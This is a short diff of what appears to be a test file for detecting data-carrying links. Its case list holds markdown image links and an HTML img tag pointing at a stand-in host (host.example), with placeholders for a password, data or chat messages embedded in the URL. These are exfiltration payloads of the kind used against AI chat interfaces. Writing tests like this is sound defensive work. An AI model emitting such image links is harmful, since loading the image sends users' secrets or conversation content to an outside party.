@@ -29,7 +29,7 @@ describe("an address that carries", () => {
   });
 
   it.each([
-    "![x](https://host.example/${PASSWORD}/p.png)",
+    "![x](https://host.example/\x24{PASSWORD}/p.png)",
     "![x](https://host.example/p?q=DATA)",
     "![x][p]\n\n[p]: https://host.example/p.png?c={{data}}",
     '<img src="https://host.example/log?m={{ messages }}" width=1>',
